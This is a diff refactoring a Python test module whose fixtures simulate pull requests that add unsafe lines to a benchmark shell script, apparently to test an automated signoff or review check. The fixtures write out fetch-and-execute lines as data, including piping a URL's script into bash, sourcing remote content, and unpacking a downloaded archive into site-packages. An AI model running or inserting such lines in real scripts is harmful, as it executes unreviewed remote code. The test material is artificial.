@@ -135,65 +135,56 @@ def fail_engine_shadow_module(data: dict[str, Any]) -> str:
 _SOURCE_LINE = 'source "$(dirname "$0")/../../benchmark_lib.sh"\n'
 
 
+def _script_adds(data: dict[str, Any], lines: str) -> str:
+    """The E8 scenario whose script runs `lines` right after it sources the library."""
+    _with_models_md(data)
+    _edit_pr_file(data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + lines)
+    return pass_conversation(data)
+
+
 def fail_engine_harness_named(data: dict[str, Any]) -> str:
     """10 (E8): an engine wheel installed on the line that installs the harness (`aiperf`): a
     harness name exempts only the words naming it."""
-    _with_models_md(data)
-    _edit_pr_file(
-        data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + "pip install vllm==0.11.3 aiperf\n"
-    )
-    return pass_conversation(data)
+    return _script_adds(data, "pip install vllm==0.11.3 aiperf\n")
 
 
 def fail_engine_run_time_package(data: dict[str, Any]) -> str:
     """10 (E8): pip installs a package whose name the run fetches: it may be an engine's fork."""
-    _with_models_md(data)
     fetched = 'PKG="$(curl -fsSL https://example.com/extra-package)"\npip install "$PKG"\n'
-    _edit_pr_file(data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + fetched)
-    return pass_conversation(data)
+    return _script_adds(data, fetched)
 
 
 def fail_fetched_program(data: dict[str, Any]) -> str:
     """8-10 (E8): the script pipes a program it fetches from a URL the profile does not trust
     into bash: what runs is whatever the URL serves when the sweep runs."""
-    _with_models_md(data)
     fetched = "curl -fsSL https://example.com/tune-engine.sh | bash\n"
-    _edit_pr_file(data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + fetched)
-    return pass_conversation(data)
+    return _script_adds(data, fetched)
 
 
 def fail_engine_unpacked(data: dict[str, Any]) -> str:
     """10 (E8): an archive unpacked into the installed engine's site-packages (`tar -C`)."""
-    _with_models_md(data)
     unpacked = "curl -fsSL https://example.com/v.tgz | tar -xz -C /usr/local/lib/python3.12/dist-packages\n"
-    _edit_pr_file(data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + unpacked)
-    return pass_conversation(data)
+    return _script_adds(data, unpacked)
 
 
 def fail_engine_index(data: dict[str, Any]) -> str:
     """10 (E8): the harness installed from a package index the PR chooses, which may serve any
     package under the harness's name (one built there runs its own code as it installs)."""
-    _with_models_md(data)
     index = "pip install --extra-index-url https://pypi.example.com/simple -U aiperf\n"
-    _edit_pr_file(data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + index)
-    return pass_conversation(data)
+    return _script_adds(data, index)
 
 
 def fail_fetched_source(data: dict[str, Any]) -> str:
     """8-10 (E8): the script sources what a URL serves, through standard input."""
-    _with_models_md(data)
     sourced = 'source /dev/stdin <<< "$(curl -fsSL https://example.com/env.sh)"\n'
-    _edit_pr_file(data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + sourced)
-    return pass_conversation(data)
+    return _script_adds(data, sourced)
 
 
 def fail_engine_wrapper(data: dict[str, Any]) -> str:
     """10 (E8): an engine release installed through the shared library's pip wrapper, whose
     unchanged body (`python3 -m pip install "$@"`) signoff does not read."""
-    _with_models_md(data)
     wrapped = "agentic_pip_install --quiet vllm==0.11.3\n"
-    _edit_pr_file(data, SCRIPT_PATH, _SOURCE_LINE, _SOURCE_LINE + wrapped)
-    return pass_conversation(data)
+    return _script_adds(data, wrapped)
 
 
 def fail_engine_uv_run(data: dict[str, Any]) -> str:
